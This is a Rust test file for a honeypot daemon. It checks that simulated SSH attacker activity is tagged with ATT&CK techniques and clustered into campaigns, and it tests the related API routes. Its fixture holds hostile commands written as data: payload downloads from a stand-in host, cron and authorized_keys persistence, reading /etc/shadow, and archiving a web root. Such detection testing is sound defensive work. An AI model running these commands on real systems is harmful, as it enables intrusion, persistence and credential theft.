//! TTP tags end to end (issue #19 item 4) on SQLite and PostgreSQL: syslog lines in through
//! intake, ATT&CK tags out of the `ttp` tick, the campaign projection's phase maps filled from
//! them (a hand-off on two deckies links broker and buyer; a coincidental hand-off on one decky
//! does not), and the two dashboard routes inside a running daemon.
//!
//! PostgreSQL cases: `eval "$(scripts/pg start)"; cargo test --test ttp`.

#[macro_use]
mod common;

use std::collections::HashMap;
use std::io::Write;
use std::path::Path;
use std::time::Duration;

use decnetd::actors::campaign_clusterer::run_campaign_tick;
use decnetd::actors::clusterer::run_identity_tick;
use decnetd::actors::ingester::ingest_files;
use decnetd::actors::ttp_tagger::run_ttp_tick;
use decnetd::config::IngestSettings;
use decnetd::db::repo::clustering as clustering_repo;
use decnetd::db::repo::ttp as repo;
use decnetd::db::Db;
use decnetd::domain::clustering::campaign::{
    ukc_phase_for_tactic, IdentityFeatures, TtpPhaseEntry,
};
use decnetd::testkit;

const BROKER: &str = "203.0.113.10";
const BUYER: &str = "198.51.100.20";
const PASSER: &str = "192.0.2.30";

fn line(ts: &str, decky: &str, ip: &str, event: &str, extra: &str) -> String {
    format!("<134>1 {ts} {decky} ssh - {event} [relay@55555 src=\"{ip}\"{extra}]")
}

fn cmd(ts: &str, decky: &str, ip: &str, command: &str) -> String {
    line(ts, decky, ip, "command", &format!(" command=\"{command}\""))
}

/// An access broker sets up C2 and persistence on d1 and d2; two hours later a buyer from
/// another address starts with discovery on both (a real operator change, seen twice). A
/// passer-by starts discovery on d3 two hours after the broker's C2 there (one coincidence).
/// Connections and refused logins around them.
fn scenario() -> Vec<String> {
    vec![
        line("2026-05-14T08:00:00+00:00", "d1", BROKER, "connect", ""),
        line(
            "2026-05-14T08:00:01+00:00",
            "d1",
            BROKER,
            "auth",
            " username=\"root\" secret_b64=\"cm9vdA==\" outcome=\"failed\"",
        ),
        cmd(
            "2026-05-14T08:01:00+00:00",
            "d1",
            BROKER,
            "wget http://203.0.113.99/i -O /tmp/i",
        ),
        cmd("2026-05-14T08:02:00+00:00", "d1", BROKER, "crontab /tmp/c"),
        cmd(
            "2026-05-14T08:10:00+00:00",
            "d2",
            BROKER,
            "curl -o /tmp/i http://203.0.113.99/i",
        ),
        cmd(
            "2026-05-14T08:11:00+00:00",
            "d2",
            BROKER,
            "echo k >> /root/.ssh/authorized_keys",
        ),
        cmd(
            "2026-05-14T08:20:00+00:00",
            "d3",
            BROKER,
            "wget http://203.0.113.99/i",
        ),
        line("2026-05-14T10:00:00+00:00", "d1", BUYER, "connect", ""),
        cmd("2026-05-14T10:00:30+00:00", "d1", BUYER, "uname -a"),
        cmd("2026-05-14T10:01:00+00:00", "d1", BUYER, "cat /etc/shadow"),
        cmd("2026-05-14T10:05:00+00:00", "d2", BUYER, "id"),
        cmd("2026-05-14T10:20:00+00:00", "d3", PASSER, "whoami"),
        cmd("2026-05-14T10:21:00+00:00", "d3", PASSER, "ps aux"),
    ]
}

fn write_lines(path: &Path, lines: &[String]) {
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .expect("open");
    for l in lines {
        writeln!(f, "{l}").expect("write");
    }
}

fn ingest_settings() -> IngestSettings {
    IngestSettings {
        batch_size: 50,
        batch_max_wait_ms: 50,
        reuse_poll_s: 0.2,
        ..IngestSettings::default()
    }
}

async fn uuids(db: &Db) -> HashMap<String, (String, Option<String>)> {
    repo::attacker_uuids_by_ip(db, &[BROKER, BUYER, PASSER])
        .await
        .expect("lookup")
}

async fn techniques(db: &Db, attacker: &str) -> Vec<(String, String, String)> {
    let mut v: Vec<_> = repo::tags_for_attacker(db, attacker, 1000)
        .await
        .expect("tags")
        .into_iter()
        .map(|t| (t.decky_id, t.tactic_id, t.technique_id))
        .collect();
    v.sort();
    v
}

/// The campaign an identity belongs to now: its literal `campaign_id` followed through the
/// campaign merge chain (a campaign formed before the tags arrived is merged, not relabelled).
async fn campaign_now(db: &Db, identity: &str) -> Option<String> {
    let literal = clustering_repo::get_identity_by_uuid(db, identity)
        .await
        .ok()??
        .0
        .campaign_id?;
    let (campaign, _) = clustering_repo::get_campaign_by_uuid(db, &literal)
        .await
        .ok()??;
    Some(campaign.uuid)
}

/// The scenario written to a file in a fresh directory and ingested; the directory (keep it
/// alive) and the file.
async fn ingest_scenario(db: &Db) -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("scenario.log");
    write_lines(&file, &scenario());
    ingest_files(
        db,
        None,
        &ingest_settings(),
        std::slice::from_ref(&file),
        false,
    )
    .await
    .expect("ingest");
    (dir, file)
}

fn t(d: &str, ta: &str, te: &str) -> (String, String, String) {
    (d.into(), ta.into(), te.into())
}

async fn lines_to_campaigns(db: &Db) {
    let (_dir, file) = ingest_scenario(db).await;

    let out = run_ttp_tick(db).await.expect("ttp tick");
    assert_eq!(out.lines, 13, "every committed line read once");
    let ids = uuids(db).await;
    let broker = &ids[BROKER].0;
    let buyer = &ids[BUYER].0;
    let passer = &ids[PASSER].0;
    assert_eq!(
        techniques(db, passer).await,
        vec![t("d3", "TA0007", "T1033"), t("d3", "TA0007", "T1057")]
    );
    assert_eq!(
        techniques(db, broker).await,
        vec![
            t("d1", "TA0003", "T1053"),
            t("d1", "TA0006", "T1110"),
            t("d1", "TA0011", "T1105"),
            t("d2", "TA0003", "T1098"),
            t("d2", "TA0011", "T1105"),
            t("d3", "TA0011", "T1105"),
        ]
    );
    assert_eq!(
        techniques(db, buyer).await,
        vec![
            t("d1", "TA0006", "T1003"),
            t("d1", "TA0007", "T1082"),
            t("d2", "TA0007", "T1033"),
        ]
    );
    assert_eq!(out.tags, 11);
    assert_eq!(out.tagged.len(), 3, "one ttp.tagged per observation");

    // Nothing new: the cursor holds, nothing is read or written twice.
    let again = run_ttp_tick(db).await.expect("idle tick");
    assert_eq!((again.lines, again.tags), (0, 0));
    assert!(again.tagged.is_empty());

    // The clusterers see the tags as phase maps.
    run_identity_tick(db).await.expect("identity tick");
    let ids = uuids(db).await;
    let (Some(i_broker), Some(i_buyer), Some(i_passer)) = (
        ids[BROKER].1.clone(),
        ids[BUYER].1.clone(),
        ids[PASSER].1.clone(),
    ) else {
        panic!("every observation has an identity: {ids:?}");
    };
    assert!(i_broker != i_buyer && i_buyer != i_passer && i_broker != i_passer);
    let phases = repo::ttp_decky_phases(db).await.expect("phases");
    let buyer_phases = &phases[&i_buyer];
    assert_eq!(buyer_phases[0].tactic.as_deref(), Some("TA0007"));
    assert_eq!(phases.values().map(Vec::len).sum::<usize>(), 11);
    // The full read goes in chunks; how many rows a chunk holds changes nothing.
    for chunk in [1, 2, 3, 10, 11, 12] {
        let chunked = repo::ttp_decky_phases_chunked(db, |i| Some(i.to_owned()), chunk, None)
            .await
            .expect("chunked phases");
        assert_eq!(chunked, phases, "chunks of {chunk}");
    }
    // The campaign tick's full read keeps each decky's first and last counted tag: the same
    // features from fewer entries.
    let features = |m: &HashMap<String, Vec<TtpPhaseEntry>>| -> Vec<IdentityFeatures> {
        phases
            .keys()
            .map(|i| {
                IdentityFeatures::from_stored(
                    i,
                    None,
                    None,
                    None,
                    m.get(i).map_or(&[], Vec::as_slice),
                )
            })
            .collect()
    };
    let counts: fn(&str) -> bool = |t| ukc_phase_for_tactic(t).is_some();
    for chunk in [1, 2, 3, 11] {
        let bounds =
            repo::ttp_decky_phases_chunked(db, |i| Some(i.to_owned()), chunk, Some(counts))
                .await
                .expect("bounds");
        assert_eq!(features(&bounds), features(&phases), "chunks of {chunk}");
        assert!(
            bounds.values().map(Vec::len).sum::<usize>() < 11,
            "some tags between a decky's first and last are left out"
        );
    }
    run_campaign_tick(db).await.expect("campaign tick");

    let campaign_of = |identity: String| async move {
        clustering_repo::get_identity_by_uuid(db, &identity)
            .await
            .expect("read")
            .expect("exists")
            .0
            .campaign_id
    };
    let c_broker = campaign_of(i_broker.clone()).await;
    let c_buyer = campaign_of(i_buyer.clone()).await;
    let c_passer = campaign_of(i_passer.clone()).await;
    assert!(c_broker.is_some());
    assert_eq!(
        c_broker, c_buyer,
        "the operator change seen on two deckies links"
    );
    assert_ne!(c_broker, c_passer, "one coincidental hand-off does not");
    let evidence = clustering_repo::campaign_evidence(db, c_broker.as_deref().unwrap_or(""))
        .await
        .expect("evidence");
    assert_eq!(evidence.len(), 1, "{evidence:?}");
    assert_eq!(
        evidence[0].handoff_corroboration.as_deref(),
        Some("repeated_handoff")
    );
    assert_eq!(evidence[0].handoff_deckies, r#"["d1","d2"]"#);

    // Later lines are tagged by the next tick only (cursor), at their event time.
    let more = vec![cmd(
        "2026-05-14T11:00:00+00:00",
        "d2",
        BUYER,
        "tar czf /tmp/x.tgz /var/www/html",
    )];
    write_lines(&file, &more);
    ingest_files(db, None, &ingest_settings(), &[file], false)
        .await
        .expect("ingest more");
    let out = run_ttp_tick(db).await.expect("ttp tick");
    assert_eq!(out.lines, 1);
    let techs: Vec<_> = techniques(db, buyer).await;
    assert!(techs.contains(&t("d2", "TA0009", "T1560")));
    assert!(techs.contains(&t("d2", "TA0009", "T1005")));
}

on_both_backends!(lines_to_campaigns);

/// Inside a running daemon: lines appended to the tailed file come out on the two TTP routes
/// (attacker and identity), and broker and buyer end in one campaign (through the merge chain:
/// the campaign tick may run before the tags exist and form one per identity first); unknown
/// uuids are 404, no token 401.
async fn routes_in_a_daemon(db_url: Option<String>) {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut s = testkit::settings(dir.path(), db_url);
    s.ingest = IngestSettings {
        log_file: dir.path().join("ingest.log"),
        ..ingest_settings()
    };
    s.clustering.tick_s = 0.5;
    s.workers.disabled = decnetd::actors::supervisor::DISPLAY_ORDER
        .iter()
        .filter(|n| {
            !matches!(
                **n,
                "ingester"
                    | "heartbeat"
                    | "api"
                    | "bus"
                    | "ttp"
                    | "clusterer"
                    | "campaign-clusterer"
            )
        })
        .map(|n| n.to_string())
        .collect();
    let log_file = s.ingest.log_file.clone();
    let app = testkit::start(s).await.expect("daemon starts");
    write_lines(&log_file, &scenario());
    let token = testkit::token_for(&app, "viewer1", "viewer").await;
    let base = format!("{}/api/v1", app.base_url());
    let client = reqwest::Client::new();
    let get = |path: String| {
        let req = client.get(format!("{base}{path}")).bearer_auth(&token);
        async move {
            let r = req.send().await.expect("send");
            let status = r.status().as_u16();
            (
                status,
                r.json::<serde_json::Value>().await.unwrap_or_default(),
            )
        }
    };

    let db = app.state.db.clone();
    let linked = testkit::eventually(Duration::from_secs(30), || {
        let db = db.clone();
        async move {
            let ids = uuids(&db).await;
            let b = ids.get(BROKER)?.1.clone()?;
            let y = ids.get(BUYER)?.1.clone()?;
            let cb = campaign_now(&db, &b).await?;
            let cy = campaign_now(&db, &y).await?;
            (cb == cy).then_some((ids[BUYER].0.clone(), y))
        }
    })
    .await;
    let Some((buyer, buyer_identity)) = linked else {
        panic!("broker and buyer never shared a campaign");
    };

    let (st, body) = get(format!("/ttp/by-attacker/{buyer}")).await;
    assert_eq!(st, 200, "{body}");
    let rows = body.as_array().expect("array");
    assert_eq!(rows.len(), 3, "{body}");
    assert_eq!(rows[0]["technique_id"], "T1033", "newest first: {body}");
    assert_eq!(rows[0]["tactic_id"], "TA0007");
    assert_eq!(rows[0]["tactic_name"], "Discovery");
    assert_eq!(rows[0]["phase"], "discovery");
    assert_eq!(rows[0]["technique_name"], "System Owner/User Discovery");
    assert_eq!(rows[0]["decky"], "d2");
    assert_eq!(rows[0]["evidence"], "id");
    assert_eq!(rows[0]["timestamp"], "2026-05-14T10:05:00.000000Z");
    assert_eq!(rows[0]["attacker_uuid"], buyer.as_str());

    let (st, body) = get(format!("/ttp/by-identity/{buyer_identity}")).await;
    assert_eq!(st, 200, "{body}");
    assert_eq!(body.as_array().map(Vec::len), Some(3), "{body}");

    let (st, body) = get("/ttp/by-attacker/no-such-attacker".into()).await;
    assert_eq!(
        (st, body["detail"].as_str()),
        (404, Some("Attacker not found"))
    );
    let (st, body) = get("/ttp/by-identity/no-such-identity".into()).await;
    assert_eq!(
        (st, body["detail"].as_str()),
        (404, Some("Identity not found"))
    );
    let r = client
        .get(format!("{base}/ttp/by-attacker/{buyer}"))
        .send()
        .await
        .expect("send");
    assert_eq!(r.status().as_u16(), 401);
    app.stop().await;
}

#[actix_rt::test]
async fn routes_in_a_daemon_sqlite() {
    routes_in_a_daemon(None).await;
}

#[actix_rt::test]
async fn routes_in_a_daemon_postgres() {
    let Some(url) = common::pg_database_url().await else {
        return;
    };
    routes_in_a_daemon(Some(url)).await;
}

/// The daemon's workers race: the file tail may commit the scenario in two batches split at any
/// line, and the TTP, identity and campaign ticks may run in any order in between. Whatever the
/// order, once every tick has run on everything, broker and buyer share a campaign and the
/// passer-by has none of theirs.
async fn arrival_orders_still_link(split: usize, order: [u8; 3]) {
    let (_dir, db) = common::sqlite_db().await;
    let db = &db;
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("scenario.log");
    let lines = scenario();
    let run = |which: u8| async move {
        match which {
            0 => drop(run_ttp_tick(db).await.expect("ttp tick")),
            1 => drop(run_identity_tick(db).await.expect("identity tick")),
            _ => drop(run_campaign_tick(db).await.expect("campaign tick")),
        }
    };
    for (i, batch) in [&lines[..split], &lines[split..]].into_iter().enumerate() {
        write_lines(&file, batch);
        ingest_files(
            db,
            None,
            &ingest_settings(),
            std::slice::from_ref(&file),
            false,
        )
        .await
        .expect("ingest");
        let order = if i == 0 { order } else { [1, 2, 0] };
        for w in order {
            run(w).await;
        }
    }
    for _ in 0..3 {
        for w in [0, 1, 2] {
            run(w).await;
        }
    }
    let ids = uuids(db).await;
    let campaign_of = |ip: &str| {
        let identity = ids[ip].1.clone().expect("identity");
        async move { campaign_now(db, &identity).await }
    };
    let (b, y, p) = (
        campaign_of(BROKER).await,
        campaign_of(BUYER).await,
        campaign_of(PASSER).await,
    );
    assert!(
        b.is_some() && b == y,
        "split {split} order {order:?}: broker {b:?} buyer {y:?}"
    );
    assert_ne!(b, p, "split {split} order {order:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_arrival_order_links_broker_and_buyer() {
    let orders = [
        [0, 1, 2],
        [0, 2, 1],
        [1, 0, 2],
        [1, 2, 0],
        [2, 0, 1],
        [2, 1, 0],
    ];
    for split in 1..scenario().len() {
        for order in orders {
            arrival_orders_still_link(split, order).await;
        }
    }
}

/// Identities a campaign tick has still to see.
async fn campaign_dirty(db: &Db) -> Vec<String> {
    clustering_repo::list_campaign_dirty_identities(db)
        .await
        .expect("dirty")
        .into_iter()
        .map(|i| i.row.uuid)
        .collect()
}

/// A campaign tick marks the identities it linked as processed in a transaction after the
/// links. An identity written in between (here: the identity tick linking another observation,
/// bumping `updated_at`) must stay campaign-dirty, or the change is never seen by a campaign
/// tick.
async fn identity_written_between_link_and_marking_stays_dirty(db: &Db) {
    let (_dir, _file) = ingest_scenario(db).await;
    run_identity_tick(db).await.expect("identity tick");
    run_campaign_tick(db).await.expect("campaign tick");
    assert!(
        campaign_dirty(db).await.is_empty(),
        "the tick processed everything"
    );

    let ids = uuids(db).await;
    let identity = ids[PASSER].1.clone().expect("identity");
    let campaign = campaign_now(db, &identity).await.expect("campaign");
    let linked_at = decnetd::db::now_utc();
    clustering_repo::apply_campaign_plan(
        db,
        clustering_repo::CampaignPlanWrites {
            links: vec![(identity.clone(), campaign)],
            ..Default::default()
        },
        linked_at,
    )
    .await
    .expect("link");
    // The identity tick writes the identity before the campaign tick marks it.
    let later = linked_at + chrono::Duration::seconds(1);
    {
        use decnetd::db::schema::attacker_identities as t;
        use diesel::{ExpressionMethods, QueryDsl};
        use diesel_async::RunQueryDsl;
        let identity = identity.clone();
        let wrote: Result<usize, decnetd::db::DbError> = async {
            Ok(decnetd::db_run!(db, |c| diesel::update(
                t::table.filter(t::uuid.eq(&identity))
            )
            .set(t::updated_at.eq(later))
            .execute(c)
            .await)?)
        }
        .await;
        assert_eq!(wrote.expect("identity write"), 1);
    }
    clustering_repo::write_campaign_maintenance(
        db,
        clustering_repo::CampaignMaintenanceWrites {
            written: vec![(identity.clone(), linked_at)],
            ..Default::default()
        },
    )
    .await
    .expect("marking");
    assert_eq!(
        campaign_dirty(db).await,
        vec![identity],
        "the write after the link is still to be seen"
    );
}

on_both_backends!(identity_written_between_link_and_marking_stays_dirty);
